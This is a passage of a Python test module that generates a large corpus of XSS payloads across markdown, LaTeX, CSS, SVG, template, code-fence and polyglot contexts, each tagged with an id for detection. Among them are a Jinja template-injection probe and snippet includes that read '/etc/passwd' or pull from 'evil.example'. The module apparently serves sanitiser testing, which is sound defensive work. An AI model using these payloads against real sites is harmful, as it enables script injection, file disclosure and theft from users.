    ("style-url", "<style>body{{background:url(javascript:{J})}}</style>"),
    ("style-close-break", "<style></style><img src=x onerror={J}></style>"),
    ("style-escape-close", "<style>\\3c /style\\3e <img src=x onerror={J}></style>"),
    ("style-animation", "<style>@keyframes x{{}}</style><div style=animation-name:x onanimationstart={J}>k</div>"),
    ("svg-style-attr-url", '<svg><rect width=9 height=9 style="fill:url(javascript:{J})"/></svg>'),
    ("list-style-image", '<ul style="list-style-image:url(javascript:{J})"><li>l</li></ul>'),
    ("link-stylesheet-js", '<link rel="stylesheet" href="javascript:{J}">'),
    ("style-attr-quote-break", '<div style="x:\'"onmouseover={J} x=\'">q</div>'),
    ("style-attr-entity-break", '<div style="color:red&quot; onmouseover=&quot;{J}">q</div>'),
]


def css_family() -> list[tuple[str, Template]]:
    return [(variant, lambda i, t=template: t.replace("{J}", call(i)).replace("{{", "{").replace("}}", "}"))
            for variant, template in _CSS]  # fmt: skip


# --- markdown ---------------------------------------------------------------------------------------

_MARKDOWN: list[tuple[str, str]] = [
    ("link", "[click](javascript:{J})"),
    ("link-case", "[click](JaVaScRiPt:{J})"),
    ("link-angle", "[click](<javascript:{J}>)"),
    ("link-title", '[click](javascript:{J} "title")'),
    ("link-spaces", "[click](   javascript:{J})"),
    ("link-entity", "[click](javascript&#58;{J})"),
    ("link-entity-j", "[click](&#106;avascript:{J})"),
    ("link-named-colon", "[click](javascript&colon;{J})"),
    ("link-tab-entity", "[click](jav&#x09;ascript:{J})"),
    ("link-percent", "[click](javascript%3A{J})"),
    ("link-backslash-escape", "[click](javascript\\:{J})"),
    ("link-escaped-paren", "[click](javascript:__xss\\({I}\\))"),
    ("link-nbsp", "[click](\u00a0javascript:{J})"),
    ("link-em-space", "[click](\u2003javascript:{J})"),
    ("link-ideographic", "[click](\u3000javascript:{J})"),
    ("link-line-separator", "[click](\u2028javascript:{J})"),
    ("link-bom", "[click](\ufeffjavascript:{J})"),
    ("link-control", "[click](\x01javascript:{J})"),
    ("link-vbscript", "[click](vbscript:msgbox({I}))"),
    ("link-data-html", "[click](data:text/html;base64,{HB})"),
    ("link-nested-brackets", "[a [b] c](javascript:{J})"),
    ("link-in-emphasis", "*[click](javascript:{J})*"),
    ("image-link", "[![img](x.png)](javascript:{J})"),
    ("image-javascript", "![alt](javascript:{J})"),
    ("image-onerror-title", '![alt](x "onerror={J}")'),
    ("image-quote-break", '![alt](x" onerror="{J})'),
    ("reference", "[click][r]\n\n[r]: javascript:{J}\n"),
    ("reference-angle", "[click][r]\n\n[r]: <javascript:{J}>\n"),
    ("reference-indented", "[click][r]\n\n   [r]: javascript:{J}\n"),
    ("reference-case-label", "[click][R]\n\n[r]: JAVASCRIPT:{J}\n"),
    ("reference-collapsed", "[r][]\n\n[r]: javascript:{J}\n"),
    ("reference-shortcut", "[r]\n\n[r]: javascript:{J}\n"),
    ("reference-em-space", "[click][r]\n\n[r]: \u2003javascript:{J}\n"),
    ("reference-title", "[click][r]\n\n[r]: javascript:{J} 'title'\n"),
    ("autolink", "<javascript:{J}>"),
    ("autolink-case", "<JAVASCRIPT:{J}>"),
    ("autolink-data", "<data:text/html;base64,{HB}>"),
    ("attr-list-onclick", '**bold**{: onclick="{J}" }'),
    ("attr-list-block", 'paragraph\n{: onmouseover="{J}" }\n'),
    ("attr-list-heading", "## heading {: onclick={J} }\n"),
    ("attr-list-href", '[link](x){: href="javascript:{J}" }'),
    ("attr-list-no-colon", "*em*{ onclick={J} }"),
    ("attr-list-id-config", "**clobber**{: #__config data-x={I} }"),
    ("attr-list-style", '**s**{: style="background:url(javascript:{J})" }'),
    ("html-block", "<div>\n<img src=x onerror={J}>\n</div>\n"),
    ("html-span", "text <img src=x onerror={J}> text"),
    ("html-markdown-attr", '<div markdown="1">\n\n[click](javascript:{J})\n\n</div>\n'),
    ("html-markdown-span", '<span markdown="1">[click](javascript:{J})</span>'),
    ("raw-script", "text\n\n<script>{J}</script>\n"),
    ("raw-script-inline", "text <script>{J}</script> text"),
    ("html-a", '<a href="javascript:{J}">raw</a>'),
    ("html-in-code-span", "`<img src=x onerror={J}>`"),
    ("escaped-lt", "\\<img src=x onerror={J}>"),
    ("entity-lt", "&lt;img src=x onerror={J}&gt;"),
    ("table-cell", "| a | b |\n|---|---|\n| <img src=x onerror={J}> | [c](javascript:{J}) |\n"),
    ("list-item", "- <img src=x onerror={J}>\n- [x](javascript:{J})\n"),
    ("blockquote", "> <img src=x onerror={J}>\n> [x](javascript:{J})\n"),
    ("heading-html", "# <img src=x onerror={J}>\n"),
    ("footnote", "text[^1]\n\n[^1]: [x](javascript:{J})\n"),
    ("setext-heading", "<img src=x onerror={J}>\n===\n"),
    ("indented-html", "    <img src=x onerror={J}>\n"),
    ("link-in-html-comment", "<!-- [x](javascript:{J}) -->"),
    ("emphasis-split-tag", "*<img src=x* onerror={J}>"),
    ("html-entity-handler", "<img src=x onerror=&#95;&#95;xss&#40;{I}&#41;>"),
]


def markdown_family() -> list[tuple[str, Template]]:
    def fill(template: str, i: int) -> str:
        html = b64(f"<script>parent.{call(i)}</script>")
        return template.replace("{J}", call(i)).replace("{I}", str(i)).replace("{HB}", html)

    return [(variant, lambda i, t=template: fill(t, i)) for variant, template in _MARKDOWN]


# --- latex ------------------------------------------------------------------------------------------

_LATEX: list[tuple[str, str]] = [
    ("href", "$\\href{javascript:{J}}{x}$"),
    ("href-display", "$$\\href{javascript:{J}}{\\text{click}}$$"),
    ("href-paren-delims", "\\(\\href{javascript:{J}}{x}\\)"),
    ("href-bracket-delims", "\\[\\href{javascript:{J}}{x}\\]"),
    ("href-space", "$\\href {javascript:{J}} {x}$"),
    ("href-case", "$\\href{JaVaScRiPt:{J}}{x}$"),
    ("href-em-space", "$\\href{\u2003javascript:{J}}{x}$"),
    ("href-entity", "$\\href{&#106;avascript:{J}}{x}$"),
    ("href-data", "$\\href{data:text/html;base64,{HB}}{x}$"),
    ("href-environment", "\\begin{equation}\\href{javascript:{J}}{x}\\end{equation}"),
    ("url", "$\\url{javascript:{J}}$"),
    ("unicode-html", "$\\unicode{<img src=x onerror={J}>}$"),
    ("unicode-font", "$\\unicode[some<img src=x onerror={J}>]{x41}$"),
    ("class", '$\\class{x" onclick="{J}}{y}$'),
    ("class-plain", "$\\class{lj-{I}}{y}$"),
    ("style", "$\\style{background:url(javascript:{J})}{y}$"),
    ("style-expression", "$\\style{width:expression({J})}{y}$"),
    ("cssid", "$\\cssId{__config}{y{I}}$"),
    ("cssid-handler", '$\\cssId{x" onmouseover="{J}}{y}$'),
    ("data", "$\\data{onclick={J}}{y}$"),
    ("mmltoken-href", '$\\mmlToken{mi}[href="javascript:{J}"]{x}$'),
    ("mmltoken-style", '$\\mmlToken{mi}[style="background:url(javascript:{J})"]{x}$'),
    ("mmltoken-id", '$\\mmlToken{mi}[id="__config"]{x{I}}$'),
    ("require-action", "$\\require{action}\\toggle{x}{y}\\endtoggle{I}$"),
    ("require-html", "$\\require{html}\\class{x}{y{I}}$"),
    ("require-url", "$\\require{javascript:{J}}$"),
    ("require-data", "$\\require{[data]/x{I}}$"),
    ("def-href", "$\\def\\h#1{\\hr{}ef{#1}{x}}\\h{javascript:{J}}$"),
    ("def-alias", "$\\def\\a{\\href}\\a{javascript:{J}}{x}$"),
    ("newcommand-alias", "$\\newcommand{\\h}[1]{\\href{#1}{x}}\\h{javascript:{J}}$"),
    ("let-alias", "$\\let\\h=\\href \\h{javascript:{J}}{x}$"),
    ("mathtip", "$\\mathtip{x}{<img src=x onerror={J}>}$"),
    ("texttip", "$\\texttip{x}{<img src=x onerror={J}>}$"),
    ("text-html", "$\\text{<img src=x onerror={J}>}$"),
    ("html-after-math", "$x$<img src=x onerror={J}>"),
    ("html-before-math", "<img src=x onerror={J}>$x$"),
    ("dollar-breakout", "$x</span><img src=x onerror={J}>$"),
    ("display-breakout", "$$\nx\n$$\n\n<img src=x onerror={J}>\n"),
    ("paren-breakout", "\\(x\\)<script>{J}</script>"),
    ("begin-unclosed", "\\begin{align}<img src=x onerror={J}>"),
    ("markdown-link-after", "$x$ [click](javascript:{J})"),
    ("verb", "$\\verb|<img src=x onerror={J}>|$"),
    ("operatorname", "$\\operatorname{<img src=x onerror={J}>}$"),
    ("color", '$\\color{red" onmouseover="{J}}{x}$'),
    ("mathrm-escape", "$\\mathrm{\\lt img src=x onerror={J}\\gt}$"),
    ("html-entity-in-math", "$&lt;img src=x onerror={J}&gt;$"),
    ("raw-latex-doc", "\\documentclass{article}\\begin{document}<img src=x onerror={J}>\\end{document}"),
]


def latex_family() -> list[tuple[str, Template]]:
    def fill(template: str, i: int) -> str:
        html = b64(f"<script>parent.{call(i)}</script>")
        return template.replace("{J}", call(i)).replace("{I}", str(i)).replace("{HB}", html)

    return [(variant, lambda i, t=template: fill(t, i)) for variant, template in _LATEX]


# --- fence ------------------------------------------------------------------------------------------

_BREAKS = {
    "lf": "\n",
    "blank-lines": "\n\n",
    "cr": "\r",
    "cr-cr": "\r\r",
    "crlf": "\r\n",
    "crlf-crlf": "\r\n\r\n",
    "vt": "\x0b",
    "ff": "\x0c",
    "fs": "\x1c",
    "nel": "\x85",
    "line-separator": "\u2028",
    "paragraph-separator": "\u2029",
}
_FENCE_TAILS: list[tuple[str, str]] = [
    ("img", "<img src=x onerror={J}>"),
    ("link", "[click](javascript:{J})"),
    ("script", "<script>{J}</script>"),
]
_FENCE_OTHER: list[tuple[str, str]] = [
    ("backticks-3", "```\n\n<img src=x onerror={J}>\n\n```"),
    ("backticks-4", "````\n\n<img src=x onerror={J}>\n\n````"),
    ("backticks-12", "````````````\n<img src=x onerror={J}>\n````````````"),
    ("backticks-cr", "\r```\r\r<img src=x onerror={J}>\r\r```\r"),
    ("backticks-crlf", "\r\n```\r\n\r\n<img src=x onerror={J}>\r\n\r\n```\r\n"),
    ("backticks-indented", "   ```\n<img src=x onerror={J}>\n   ```"),
    ("backticks-in-line", "x```<img src=x onerror={J}>```x"),
    ("backtick-code-span", "` <img src=x onerror={J}> `"),
    ("backticks-unbalanced", "a`b``<img src=x onerror={J}>`"),
    ("tildes", "~~~\n\n<img src=x onerror={J}>\n\n~~~"),
    ("tildes-cr", "\r~~~\r\r<img src=x onerror={J}>\r\r~~~"),
    ("code-close", "</code></pre><img src=x onerror={J}><pre><code>"),
    ("div-close", "</div></div></div><img src=x onerror={J}>"),
    ("details-close", "</details></div><img src=x onerror={J}>"),
    ("details-close-cr", "\r</details>\r\r<img src=x onerror={J}>"),
    ("article-close", "</article><img src=x onerror={J}>"),
    ("textarea-close", "</textarea><img src=x onerror={J}>"),
    ("title-close", "</title><img src=x onerror={J}>"),
    ("script-close", "</script><img src=x onerror={J}>"),
    ("style-close", "</style><img src=x onerror={J}>"),
    ("comment-close", "--><img src=x onerror={J}>"),
    ("cdata-close", "]]><img src=x onerror={J}>"),
    ("cr-dedent", "ok\r<img src=x onerror={J}>"),
    ("cr-admonition", 'ok\r!!! note "<img src=x onerror={J}>"\r'),
    ("cr-blank-dedent", "ok\r\r<img src=x onerror={J}>\r\r"),
    ("crlf-dedent", "ok\r\n\r\n<img src=x onerror={J}>"),
    ("cr-fence-cr", "\r```\r<img src=x onerror={J}>"),
    ("indent-break", "\n\n\n<img src=x onerror={J}>"),
    ("nul-then-html", "a\x00<img src=x onerror={J}>"),
    ("ansi-then-html", "\x1b[31mred\x1b[0m<img src=x onerror={J}>"),
    ("ansi-swallow-lt", "\x1b[<img src=x onerror={J}>"),
    ("backspace-then-html", "abc\b\b\b<img src=x onerror={J}>"),
    ("table-pipe-break", "| x |\r| --- |\r| <img src=x onerror={J}> |"),
    ("yaml-front-matter", "---\ntitle: <img src=x onerror={J}>\n---\n"),
]


def fence_family() -> list[tuple[str, Template]]:
    out: list[tuple[str, Template]] = []
    for name, sep in _BREAKS.items():
        for tail_name, tail in _FENCE_TAILS:
            out.append(
                (f"{name}-{tail_name}", lambda i, s=sep, t=tail: f"ok{s}```{s}{s}{t.replace('{J}', call(i))}{s}")
            )
    for variant, template in _FENCE_OTHER:
        out.append((variant, lambda i, t=template: t.replace("{J}", call(i))))
    return out


# --- template ---------------------------------------------------------------------------------------

_TEMPLATE: list[tuple[str, str]] = [
    ("jinja-expression", "{{ '<img src=x onerror={J}>' }}"),
    ("jinja-safe", "{{ '<img src=x onerror={J}>'|safe }}"),
    ("jinja-statement", "{% if 1 %}<img src=x onerror={J}>{% endif %}"),
    ("jinja-raw-end", "{% endraw %}<img src=x onerror={J}>{% raw %}"),
    ("jinja-config", "{{ config }}{{ page }}<img src=x onerror={J}>"),
    ("jinja-ssti", "{{ ''.__class__.__mro__[1].__subclasses__() }}<b>{I}</b>"),
    ("jinja-comment", "{# <img src=x onerror={J}> #}"),
    ("angular-constructor", "{{constructor.constructor('{J}')()}}"),
    ("angular-ng-app", "<div ng-app>{{$on.constructor('{J}')()}}</div>"),
    ("vue-mustache", "<div v-html=\"'<img src=x onerror={J}>'\">{{_c.constructor('{J}')()}}</div>"),
    ("es-template", "${{J}}"),
    ("ruby-interpolation", "#{{J}}"),
    ("erb", "<%= '<img src=x onerror={J}>' %>"),
    ("handlebars-triple", "{{{ '<img src=x onerror={J}>' }}}"),
    ("double-brackets", "[[ {J} ]]"),
    ("mkdocs-macro", "{{ macros_info() }}<img src=x onerror={J}>"),
]


def template_family() -> list[tuple[str, Template]]:
    return [(v, lambda i, t=template: t.replace("{J}", call(i)).replace("{I}", str(i))) for v, template in _TEMPLATE]


# --- pymdown ----------------------------------------------------------------------------------------

_PYMDOWN: list[tuple[str, str]] = [
    ("snippet", '--8<-- "mkdocs.yml"\n<b>{I}</b>'),
    ("snippet-passwd", '--8<-- "/etc/passwd"\n<b>{I}</b>'),
    ("snippet-block", "--8<--\nmkdocs.yml\n--8<--\n<b>{I}</b>"),
    ("snippet-inline", 'text ;--8<-- "docs/index.md" <b>{I}</b>'),
    ("snippet-url", '--8<-- "https://evil.example/x.md"\n<b>{I}</b>'),
    ("admonition-title", '!!! note "<img src=x onerror={J}>"\n    body\n'),
    ("admonition-class", '!!! note" onclick="{J}\n    body\n'),
    ("admonition-body", "!!! danger\n    <img src=x onerror={J}>\n    [x](javascript:{J})\n"),
    ("details-title", '??? note "<img src=x onerror={J}>"\n    body\n'),
    ("details-open", '???+ note "t"\n    <img src=x onerror={J}>\n'),
    ("emoji", ":material-alert: :smile: <b>{I}</b>"),
    ("emoji-html-name", ":<img src=x onerror={J}>:"),
    ("emoji-unknown", ":__xss-{I}:"),
    ("tabbed", '=== "<img src=x onerror={J}>"\n\n    body\n'),
    ("tabbed-link", '=== "tab"\n\n    [x](javascript:{J})\n'),
    ("tasklist", "- [x] <img src=x onerror={J}>\n- [ ] [x](javascript:{J})\n"),
    ("abbreviation", "HTML\n\n*[HTML]: <img src=x onerror={J}>\n"),
    ("definition-list", "term\n:   <img src=x onerror={J}>\n"),
    ("recent-marker", "<!-- labjournal:recent -->\n<b>{I}</b>"),
    ("tags-marker", "<!-- material/tags -->\n<b>{I}</b>"),
    ("arithmatex-block", "$$\n\\href{javascript:{J}}{x}\n$$\n"),
    ("superfences-custom", '```mermaid\ngraph LR; A-->B; click A "javascript:{J}"\n```\n'),
    ("superfences-attrs", '```{ .python onclick="{J}" }\nx\n```\n'),
    ("highlight-title", '```python title="<img src=x onerror={J}>"\nx\n```\n'),
    ("inlinehilite", "`#!html <img src=x onerror={J}>`"),
    ("md-button", "[go](javascript:{J}){ .md-button }"),
    ("toc-marker", "[TOC]\n\n# <img src=x onerror={J}>\n"),
    ("caret-tilde", "^^<img src=x onerror={J}>^^ ~~<img src=x onerror={J}>~~"),
    ("critic", "{++<img src=x onerror={J}>++}"),
    ("keys", "++ctrl+<img src=x onerror={J}>++"),
    ("magiclink", "javascript:{J} www.<img src=x onerror={J}>.com"),
]


def pymdown_family() -> list[tuple[str, Template]]:
    return [(v, lambda i, t=template: t.replace("{J}", call(i)).replace("{I}", str(i))) for v, template in _PYMDOWN]


# --- svg (well-formed documents) --------------------------------------------------------------------

SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_SVG: list[tuple[str, str]] = [
    ("onload", SVG_OPEN + ' onload="{J}"><rect width="9" height="9"/></svg>'),
    ("script", SVG_OPEN + "><script>{J}</script></svg>"),
    ("script-cdata", SVG_OPEN + "><script><![CDATA[{J}]]></script></svg>"),
    ("script-href", SVG_OPEN + '><script href="data:,{J}"/></svg>'),
    ("script-xlink", SVG_OPEN + '><script xlink:href="data:,{J}"/></svg>'),
    ("script-namespaced", SVG_OPEN + ' xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{J}</h:script></svg>'),
    ("rect-onclick", SVG_OPEN + '><rect width="9" height="9" onclick="{J}"/></svg>'),
    ("a-javascript", SVG_OPEN + '><a href="javascript:{J}"><text y="9">a</text></a></svg>'),
    ("a-xlink-javascript", SVG_OPEN + '><a xlink:href="javascript:{J}"><text y="9">a</text></a></svg>'),
    ("a-entity-javascript", SVG_OPEN + '><a href="&#x6A;avascript:{J}"><text y="9">a</text></a></svg>'),
    ("a-tab-javascript", SVG_OPEN + '><a href="jav&#x09;ascript:{J}"><text y="9">a</text></a></svg>'),
    ("a-em-space-javascript", SVG_OPEN + '><a href="\u2003javascript:{J}"><text y="9">a</text></a></svg>'),
    ("a-nbsp-javascript", SVG_OPEN + '><a href="&#160;javascript:{J}"><text y="9">a</text></a></svg>'),
    (
        "animate-href",
        SVG_OPEN + '><a><animate attributeName="href" values="javascript:{J}"/><text y="9">x</text></a></svg>',
    ),
    (
        "set-xlink-href",
        SVG_OPEN + '><a><set attributeName="xlink:href" to="javascript:{J}"/><text y="9">x</text></a></svg>',
    ),
    ("animate-onbegin", SVG_OPEN + '><animate onbegin="{J}" attributeName="x" dur="1s"/></svg>'),
    ("set-onbegin", SVG_OPEN + '><set onbegin="{J}" attributeName="x" to="1"/></svg>'),
    (
        "foreignobject",
        SVG_OPEN + '><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
        '<img src="x" onerror="{J}"/></body></foreignObject></svg>',
    ),
    ("use-data", SVG_OPEN + '><use href="data:image/svg+xml;base64,{SB}#x"/></svg>'),
    ("image-javascript", SVG_OPEN + '><image href="javascript:{J}" width="9" height="9"/></svg>'),
    ("feimage", SVG_OPEN + '><filter id="f"><feImage href="javascript:{J}"/></filter></svg>'),
    ("handler-on-g", SVG_OPEN + '><g onmouseover="{J}"><rect width="9" height="9"/></g></svg>'),
    ("style-import", SVG_OPEN + "><style>@import url(javascript:{J});</style></svg>"),
    ("style-escaped-markup", SVG_OPEN + "><style>&lt;/style&gt;&lt;img src=x onerror={J}&gt;</style></svg>"),
    ("text-escaped-markup", SVG_OPEN + "><text>&lt;img src=x onerror={J}&gt;</text></svg>"),
    ("title-markup", SVG_OPEN + "><title>&lt;/title&gt;&lt;img src=x onerror={J}&gt;</title></svg>"),
    ("xml-stylesheet-pi", '<?xml-stylesheet href="javascript:{J}"?>' + SVG_OPEN + "><rect/></svg>"),
    (
        "doctype-entity",
        '<!DOCTYPE svg [<!ENTITY x "&#60;img src=x onerror={J}&#62;">]>' + SVG_OPEN + "><text>&x;</text></svg>",
    ),
    ("handler-uppercase", SVG_OPEN + '><rect width="9" height="9" ONCLICK="{J}"/></svg>'),
    ("handler-namespaced", SVG_OPEN + ' xmlns:e="http://www.w3.org/2001/xml-events"><rect e:onclick="{J}"/></svg>'),
    (
        "listener",
        SVG_OPEN + ' xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">{J}</handler></svg>',
    ),
    (
        "iframe-in-svg",
        SVG_OPEN
        + '><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{J}"/></foreignObject></svg>',
    ),
    ("fill-url-javascript", SVG_OPEN + '><rect width="9" height="9" fill="url(javascript:{J})"/></svg>'),
    ("id-config", SVG_OPEN + ' id="__config"><text>{I}</text></svg>'),
]


def svg_family() -> list[tuple[str, Template]]:
    def fill(template: str, i: int) -> str:
        inner = b64(f'<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="top.{call(i)}"><rect/></svg>')
        return template.replace("{J}", call(i)).replace("{I}", str(i)).replace("{SB}", inner)

    return [(variant, lambda i, t=template: fill(t, i)) for variant, template in _SVG]


# --- polyglot ---------------------------------------------------------------------------------------

_POLYGLOT: list[tuple[str, str]] = [
    (
        "contexts",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={J} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd={J}//>\\x3e",
    ),
    ("quotes-then-tag", "'\"><img src=x onerror={J}>"),
    ("quotes-then-script", "\"'--></style></script><script>{J}</script>"),
    ("attr-break-handler", '" onmouseover="{J}" x="'),
    ("attr-break-single", "' onmouseover='{J}' x='"),
    ("attr-break-unquoted", "x onmouseover={J} "),
    ("js-string-break", "';{J}//"),
    ("js-string-break-double", '";{J}//'),
    ("js-template-break", "`;{J}//"),
    ("json-break", '"}}</script><script>{J}</script>'),
    ("url-attr-break", 'javascript:{J}" x="'),
    ("css-break", "}</style><img src=x onerror={J}><style>"),
    ("markdown-and-html", "[x](javascript:{J}) <img src=x onerror={J}> $\\href{javascript:{J}}{x}$"),
    ("title-break", "</title><img src=x onerror={J}>"),
    ("textarea-break", "</textarea><img src=x onerror={J}>"),
    ("noscript-break", "</noscript><img src=x onerror={J}>"),
    ("long-padding", "A" * 300 + "<img src=x onerror={J}>"),
    ("unicode-rtl", "\u202e<img src=x onerror={J}>\u202c"),
    ("combining-chars", "<img\u0301 src=x onerror={J}>"),
    ("surrogate-emoji", "\U0001f600<img src=x onerror={J}>\U0001f600"),
]


def polyglot_family() -> list[tuple[str, Template]]:
    return [(v, lambda i, t=template: t.replace("{J}", call(i))) for v, template in _POLYGLOT]


FAMILIES: dict[str, Callable[[], list[tuple[str, Template]]]] = {
    "handler": handler_family,
    "script": script_family,
    "js": js_family,
    "url": url_family,
    "link": link_family,
    "mxss": mxss_family,
    "css": css_family,
    "markdown": markdown_family,
    "latex": latex_family,
    "fence": fence_family,
    "template": template_family,
    "pymdown": pymdown_family,
    "svg": svg_family,
    "polyglot": polyglot_family,
}


def _build() -> list[Payload]:
    payloads: list[Payload] = []
    seen: set[str] = set()
    for family, make in FAMILIES.items():
        for variant, template in make():
            identifier = FIRST_ID + len(payloads)
            text = template(identifier)
            if text in seen:
                continue
            seen.add(text)
            payloads.append(Payload(identifier, family, variant, text))
    return payloads


CORPUS: list[Payload] = _build()
_BY_ID = {payload.id: payload for payload in CORPUS}


def by_id(identifier: int) -> Payload | None:
    return _BY_ID.get(identifier)


_ENCODED = re.compile(r"""base64,([A-Za-z0-9+/=]{8,})|atob\(['"]([A-Za-z0-9+/=]+)['"]\)|fromCharCode\(([0-9, ]+)\)""")


def _decoded(text: str) -> str:
    """``text`` with what its base64 runs, ``atob('...')`` calls and ``fromCharCode(...)`` lists hold."""
    found = [unquote(text)]
    for run, atob, codes in _ENCODED.findall(text):
        if codes:
            found.append("".join(chr(int(c)) for c in codes.split(",") if c.strip().isdigit() and int(c) < 0x110000))
            continue
        data = run or atob
        with contextlib.suppress(ValueError):
            found.append(base64.b64decode(data + "=" * (-len(data) % 4)).decode("utf-8", "replace"))
    return " ".join(found)


def payload_ids(text: str) -> list[int]:
    """The ids of corpus payloads that ``text`` names (an attribute value, a marker's argument),
    also percent-encoded, in base64 (``data:`` URLs, ``atob``) or as ``fromCharCode`` codes."""
    return sorted({int(m) for m in ID_PATTERN.findall(_decoded(text)) if int(m) in _BY_ID})


def family(name: str) -> list[Payload]:
    return [payload for payload in CORPUS if payload.family == name]


def sample(payloads: Iterable[Payload], every: int, offset: int = 0) -> list[Payload]:
    """Every ``every``-th payload (from ``offset``): a spread over all families for slow channels."""
    return [payload for index, payload in enumerate(payloads) if index % every == offset % every]
